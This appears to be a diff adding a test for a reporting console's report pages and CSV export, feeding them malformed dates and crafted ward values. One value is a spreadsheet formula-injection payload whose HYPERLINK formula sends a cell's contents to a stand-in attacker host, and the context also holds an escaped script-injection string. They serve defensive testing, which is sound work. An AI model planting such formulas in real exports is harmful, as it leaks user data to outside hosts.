@@ -322,3 +322,32 @@ def test_a_label_with_markup_is_drawn_as_text() -> None:
     drawn = chart_svg(table)
     assert drawn.startswith("<svg") and "<script" not in drawn
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in drawn
+
+
+ODD_QUERIES = (
+    {"from": "0001-01", "to": "0005-12"},
+    {"to": "9999-12"},
+    {"from": "2026-13", "to": "abc"},
+    {"ward": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
+    {"ward": "新宿区"},
+)
+
+
+async def test_odd_months_and_wards_give_a_report_never_an_error(console: Console) -> None:
+    """Typed or crafted values: a year 1 or 9999 is ignored (it had overflowed into a 500),
+    a 区 the city does not have narrows nothing, and no CSV cell starts a formula."""
+    async with console.client() as client:
+        await sign_in(client, "coordinator")
+        for query in ODD_QUERIES:
+            page = await client.get("/console/reports", params=query)
+            assert page.status_code == 200, query
+            exported = await client.get("/console/reports/channel-ward.csv", params=query)
+            assert exported.status_code == 200, query
+            cells = [c for row in csv.reader(io.StringIO(exported.text)) for c in row]
+            assert not any(c.startswith(("=", "+", "@")) for c in cells), query
+        for typed in ("0001-01-01", "9999-12-31"):
+            for path in ("/console/cases", "/console/cases/live"):
+                listed = await client.get(
+                    path, params={"received_from": typed, "received_to": typed}
+                )
+                assert listed.status_code == 200, (path, typed)
